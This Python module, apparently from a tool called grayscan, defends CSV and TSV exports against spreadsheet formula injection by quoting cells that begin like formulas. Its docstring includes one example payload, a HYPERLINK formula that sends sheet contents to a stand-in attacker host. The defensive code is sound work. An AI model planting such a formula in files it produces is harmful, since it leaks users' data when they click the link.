"""CSV cells that spreadsheets cannot run: every CSV (and TSV) grayscan writes goes through here.

Post text and author names are hostile input. Excel, WPS and LibreOffice run a cell that begins
with ``=``, ``+``, ``-`` or ``@`` (tab and carriage return can hide such a start) as a formula, so
``=HYPERLINK("http://evil.example/?"&A1, "…")`` in a report would leak the sheet when clicked.
OWASP's advice ("CSV injection"): prefix such a cell with a single quote, which spreadsheets show
as text. ``restore`` undoes it for grayscan's own readers (the alliance account lists).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

#: First characters that make a spreadsheet treat a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(text: str) -> bool:
    """Whether ``text``, after any leading quotes, begins like a formula."""
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralize(value: Any) -> Any:
    """``value`` with a leading single quote when it is text a spreadsheet would run; anything else unchanged.

    Text that already begins with quotes before a formula start gets one more, so ``restore`` can
    always tell grayscan's quote from one that was in the data (a spreadsheet shows the original too).
    """
    if isinstance(value, str) and _formula_like(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The original of a cell that ``neutralize`` wrote."""
    if value.startswith("'") and _formula_like(value):
        return value[1:]
    return value


class Writer:
    """``csv.writer`` whose rows are neutralized cell by cell."""

    def __init__(self, stream: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are neutralized (the header is grayscan's own)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralize(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
